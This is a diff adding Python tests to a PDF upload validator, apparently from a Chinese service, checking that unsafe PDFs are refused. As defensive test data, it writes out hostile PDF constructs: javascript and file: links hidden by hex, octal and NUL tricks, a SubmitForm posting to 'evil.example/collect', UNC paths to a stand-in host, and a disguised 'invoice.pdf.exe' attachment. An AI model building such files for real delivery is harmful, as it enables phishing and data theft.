@@ -385,6 +385,235 @@ def test_catalog_additional_actions_refused() -> None:
     assert "脚本" in refusal(data, "a.pdf", allowed=PDF_ONLY)
 
 
+ATTACHED = "文件中含有附件或可执行内容，出于安全原因不能接收。请另存为（或打印成）普通 PDF 后重新上传。"
+BAD_LINK = "不安全的链接"
+EXTERNAL = "向外提交数据或打开其他文件"
+XFA = "XFA 表单"
+
+
+def annotated_pdf(annotation: bytes, *extra: bytes) -> bytes:
+    """A one-page PDF whose page carries `annotation` (object 4); `extra` objects are 5, 6, ..."""
+    return raw_pdf(
+        [
+            b"<< /Type /Catalog /Pages 2 0 R >>",
+            PAGES,
+            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [4 0 R] >>",
+            annotation,
+            *extra,
+        ]
+    )
+
+
+def link_with_action(action: DictionaryObject) -> bytes:
+    writer = blank_writer()
+    link = DictionaryObject(
+        {
+            NameObject("/Type"): NameObject("/Annot"),
+            NameObject("/Subtype"): NameObject("/Link"),
+            NameObject("/Rect"): ArrayObject([FloatObject(v) for v in (0, 0, 99, 99)]),
+            NameObject("/A"): action,
+        }
+    )
+    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(link)])
+    return writer_pdf(writer)
+
+
+def uri_action(uri: str) -> DictionaryObject:
+    return DictionaryObject({NameObject("/S"): NameObject("/URI"), NameObject("/URI"): TextStringObject(uri)})
+
+
+def test_attached_program_refused() -> None:
+    writer = blank_writer()
+    writer.add_attachment("setup.exe", b"MZ\x90\x00" + b"\0" * 200)
+    assert refusal(writer_pdf(writer), "a.pdf", allowed=PDF_ONLY) == ATTACHED
+
+
+def test_attached_program_in_object_stream_refused() -> None:
+    # The catalog is inside a compressed object stream: read by pypdf, not by the fast reader.
+    data = object_stream_pdf(b"<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [] >> >> >>")
+    assert b"EmbeddedFiles" not in data
+    assert refusal(data, "a.pdf", allowed=PDF_ONLY) == ATTACHED
+
+
+def test_embedded_file_stream_alone_refused() -> None:
+    # Not referenced from anywhere: every object is checked, not only what the page tree reaches.
+    payload = b"MZ\x90\x00 program"
+    stream = b"<< /Type /EmbeddedFile /Length %d >>\nstream\n" % len(payload) + payload + b"\nendstream"
+    data = raw_pdf([b"<< /Type /Catalog /Pages 2 0 R >>", PAGES, PAGE, stream])
+    assert refusal(data, "a.pdf", allowed=PDF_ONLY) == ATTACHED
+
+
+def test_file_attachment_annotation_refused() -> None:
+    data = annotated_pdf(
+        b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 20 20] /FS 5 0 R >>",
+        b"<< /Type /Filespec /F (invoice.pdf.exe) /EF << /F 6 0 R >> >>",
+        b"<< /Length 2 >>\nstream\nMZ\nendstream",
+    )
+    assert refusal(data, "a.pdf", allowed=PDF_ONLY) == ATTACHED
+
+
+@pytest.mark.parametrize(
+    "uri",
+    [
+        "javascript:alert(1)",
+        "JavaScript:app.alert(1)",
+        "  \x01\x02javascript:alert(1)",
+        "java\tscr\nipt:alert(1)",
+        "vbscript:msgbox(1)",
+        "VBScript:msgbox(1)",
+        "file:///C:/Windows/System32/cmd.exe",
+        "FILE://server/share/setup.exe",
+        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
+        "\\\\evil.example\\share\\setup.exe",
+        "C:\\Windows\\notepad.exe",
+        "../../setup.exe",
+    ],
+)
+def test_link_to_script_or_local_file_refused(uri: str) -> None:
+    assert BAD_LINK in refusal(link_with_action(uri_action(uri)), "a.pdf", allowed=PDF_ONLY)
+
+
+def test_javascript_link_written_by_fpdf_refused() -> None:
+    pdf = FPDF()
+    pdf.add_page()
+    pdf.set_font("helvetica", size=12)
+    pdf.cell(0, 10, "click", link="javascript:alert(1)")
+    assert BAD_LINK in refusal(bytes(pdf.output()), "a.pdf", allowed=PDF_ONLY)
+
+
+def test_javascript_link_as_utf16_hex_string_refused() -> None:
+    uri = "javascript:alert(1)".encode("utf-16-be").hex().encode()
+    data = annotated_pdf(b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI <FEFF" + uri + b"> >> >>")
+    assert BAD_LINK in refusal(data, "a.pdf", allowed=PDF_ONLY)
+
+
+def test_javascript_link_with_escaped_literal_string_refused() -> None:
+    # \152 is "j" in octal; a backslash-newline inside a string is nothing.
+    data = annotated_pdf(
+        b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (\\152ava\\\nscript:x\\(1\\)) >> >>"
+    )
+    assert BAD_LINK in refusal(data, "a.pdf", allowed=PDF_ONLY)
+
+
+@pytest.mark.parametrize(
+    "action",
+    [
+        b"<< /S /SubmitForm /F << /FS /URL /F (https://evil.example/collect) >> >>",
+        b"<< /S /ImportData /F (data.fdf) >>",
+        b"<< /S /GoToR /F (\\\\evil.example\\share\\a.pdf) /D [0 /Fit] >>",
+        b"<< /S /GoToE /T << /R /C /N (a) >> >>",
+    ],
+)
+def test_actions_sending_data_or_opening_other_files_refused(action: bytes) -> None:
+    data = annotated_pdf(b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A " + action + b" >>")
+    assert EXTERNAL in refusal(data, "a.pdf", allowed=PDF_ONLY)
+
+
+@pytest.mark.parametrize("kind", [b"/RichMediaExecute", b"/Rendition", b"/Sound", b"/Movie", b"/JavaScript", b"/Launch"])
+def test_actions_running_content_refused(kind: bytes) -> None:
+    data = annotated_pdf(b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S " + kind + b" >> >>")
+    assert "脚本" in refusal(data, "a.pdf", allowed=PDF_ONLY)
+
+
+def test_action_type_given_by_reference_refused() -> None:
+    data = annotated_pdf(b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S 5 0 R >> >>", b"/SubmitForm")
+    assert EXTERNAL in refusal(data, "a.pdf", allowed=PDF_ONLY)
+
+
+def test_submit_form_from_pypdf_writer_refused() -> None:
+    action = DictionaryObject(
+        {NameObject("/S"): NameObject("/SubmitForm"), NameObject("/F"): TextStringObject("https://evil.example")}
+    )
+    assert EXTERNAL in refusal(link_with_action(action), "a.pdf", allowed=PDF_ONLY)
+
+
+def test_xfa_form_refused() -> None:
+    writer = blank_writer()
+    xfa = writer._add_object(DictionaryObject())  # the packet's content does not matter
+    writer._root_object[NameObject("/AcroForm")] = DictionaryObject(
+        {NameObject("/Fields"): ArrayObject(), NameObject("/XFA"): xfa}
+    )
+    assert XFA in refusal(writer_pdf(writer), "a.pdf", allowed=PDF_ONLY)
+
+
+def test_indirect_open_action_uri_refused_as_direct_one() -> None:
+    data = raw_pdf(
+        [b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>", PAGES, PAGE, b"<< /S /URI /URI (https://x.example) >>"]
+    )
+    assert "脚本" in refusal(data, "a.pdf", allowed=PDF_ONLY)
+
+
+def test_nul_after_a_name_does_not_hide_it() -> None:
+    # NUL is white space in PDF: a viewer reads the key /JS here.
+    data = raw_pdf(
+        [b"<< /Type /Catalog /Pages 2 0 R /Names << /JS\x00(app.alert\\(1\\)) >> >>", PAGES, PAGE]
+    )
+    assert "脚本" in refusal(data, "a.pdf", allowed=PDF_ONLY)
+
+
+def test_ordinary_pdf_with_https_link_mailto_and_outline_passes() -> None:
+    writer = PdfWriter()
+    for _ in range(3):
+        writer.add_blank_page(595, 842)
+    writer.add_outline_item(title="第一章", page_number=0)
+    writer.add_outline_item(title="第三章", page_number=2)
+    link = DictionaryObject(
+        {
+            NameObject("/Type"): NameObject("/Annot"),
+            NameObject("/Subtype"): NameObject("/Link"),
+            NameObject("/Rect"): ArrayObject([FloatObject(v) for v in (0, 0, 99, 99)]),
+            NameObject("/A"): uri_action("  HTTPS://www.mps.gov.cn/n2254314/index.html"),
+        }
+    )
+    mail = DictionaryObject(link)
+    mail[NameObject("/A")] = uri_action("mailto:baoan@example.gov.cn")
+    go_to = DictionaryObject(link)
+    go_to[NameObject("/A")] = DictionaryObject(
+        {NameObject("/S"): NameObject("/GoTo"), NameObject("/D"): ArrayObject([writer.pages[1].indirect_reference,
+                                                                                NameObject("/Fit")])}
+    )
+    writer.pages[0][NameObject("/Annots")] = ArrayObject(
+        [writer._add_object(link), writer._add_object(mail), writer._add_object(go_to)]
+    )
+    data = writer_pdf(writer)
+    assert b"/Outlines" in data
+    assert check_upload(data, "a.pdf", allowed=PDF_ONLY, max_bytes=MB).pages == 3
+
+
+def test_indirect_length_predictor_and_off_by_one_length_streams_pass() -> None:
+    # Streams the fast reader hands to pypdf: a PNG-predictor flate stream, a /Length one byte too long.
+    rows = b"".join(b"\x00" + bytes(range(8)) for _ in range(4))
+    predicted = zlib.compress(rows)
+    content = zlib.compress(b"BT ET")
+    data = raw_pdf(
+        [
+            b"<< /Type /Catalog /Pages 2 0 R >>",
+            PAGES,
+            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents [4 0 R 6 0 R] >>",
+            b"<< /Length 5 0 R /Filter /FlateDecode >>\nstream\n" + content + b"\nendstream",
+            b"%d" % len(content),
+            b"<< /Length %d /Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 8 >> >>\nstream\n"
+            % len(predicted) + predicted + b"\nendstream",
+            b"<< /Length 7 >>\nstream\nBT ET\nendstream",
+        ]
+    )
+    assert check_upload(data, "a.pdf", allowed=PDF_ONLY, max_bytes=MB).pages == 1
+
+
+def test_garbage_stream_with_indirect_length_refused() -> None:
+    garbage = b"this is not a zlib stream at all!!!!!!!!"
+    data = raw_pdf(
+        [
+            b"<< /Type /Catalog /Pages 2 0 R >>",
+            PAGES,
+            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
+            b"<< /Length 5 0 R /Filter [/FlateDecode] >>\nstream\n" + garbage + b"\nendstream",
+            b"%d" % len(garbage),
+        ]
+    )
+    assert "损坏" in refusal(data, "a.pdf", allowed=PDF_ONLY)
+
+
 # ---------------------------------------------------------------------------------------------
 # Refused images
 
